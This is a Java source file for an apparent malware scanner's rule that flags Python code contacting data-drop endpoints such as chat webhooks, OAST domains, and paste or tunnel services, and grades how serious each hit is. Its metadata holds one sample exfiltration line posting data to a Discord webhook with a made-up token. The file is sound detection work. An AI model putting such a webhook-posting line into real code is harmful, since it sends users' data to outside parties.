package dev.kingsnake.rules.network;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.rules.shared.DropEndpoints;
import dev.kingsnake.rules.shared.IndicatorRule;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.facts.CallFacts;
import dev.kingsnake.spi.facts.Capability;
import dev.kingsnake.spi.python.Expr;

import java.util.EnumSet;
import java.util.Set;

/** Services that malware uses to receive stolen data or stage payloads: webhooks, bots, paste/drop sites, OAST. */
public final class ExfilEndpointRule extends IndicatorRule {

    private static final RuleInfo INFO = new RuleInfo("KS-NET-EXFIL-ENDPOINT",
            "Talks to a data-drop endpoint: chat webhooks/bots, request catchers and OAST callback domains, paste, "
                    + "file-drop and tunnel services",
            Severity.HIGH, Confidence.HIGH, Set.of(Tags.NETWORK, Tags.EXFILTRATION),
            "requests.post('https://discord.com/api/webhooks/123/abc', json={'content': data})  # id/token made up",
            "Webhook and bot client libraries name the base API; a concrete webhook URL or bot token, or an OAST / "
                    + "request-catcher or IP-logger domain, is reported always (critical when the same function "
                    + "sends data: a POST, or a URL carrying run-time values); base "
                    + "APIs, paste, file-drop and tunnel services only where the same function sends data (high), uses "
                    + "the network (medium) or the file does (lower).");

    public ExfilEndpointRule() {
        super(INFO, DropEndpoints.INDICATORS, EnumSet.of(Capability.NETWORK, Capability.PROCESS), false,
                "names a data-drop endpoint");
    }

    @Override
    protected Grade grade(CallFacts facts, Hit h, boolean several) {
        boolean sendsHere = facts.scopeHas(h.string().scope(), Capability.SEND);
        if (h.indicator().strong()) {
            sendsHere |= carriesData(h) && facts.scopeHas(h.string().scope(), Capability.NETWORK);
            return new Grade(sendsHere ? Severity.CRITICAL : Severity.HIGH, Confidence.HIGH);
        }
        if (sendsHere) {
            return new Grade(Severity.HIGH, Confidence.HIGH);
        }
        if (hasAny(facts.scope(h.string().scope()), companions())) {
            return new Grade(Severity.MEDIUM, Confidence.HIGH);
        }
        if (hasAny(facts.fileCaps(), companions())) {
            return new Grade(Severity.MEDIUM, Confidence.MEDIUM);
        }
        return null;
    }

    /**
     * A URL built with run-time values (an f-string with a hole after the scheme: in the host or the path):
     * with a network call in the same function, the values leave in the URL even over GET.
     */
    private static boolean carriesData(Hit h) {
        String t = h.string().text();
        int host = t.indexOf("://");
        return (h.string().node() instanceof Expr.FString || h.string().node() instanceof Expr.BinOp)
                && t.indexOf("{}", host < 0 ? 0 : host + 3) > 0;
    }
}
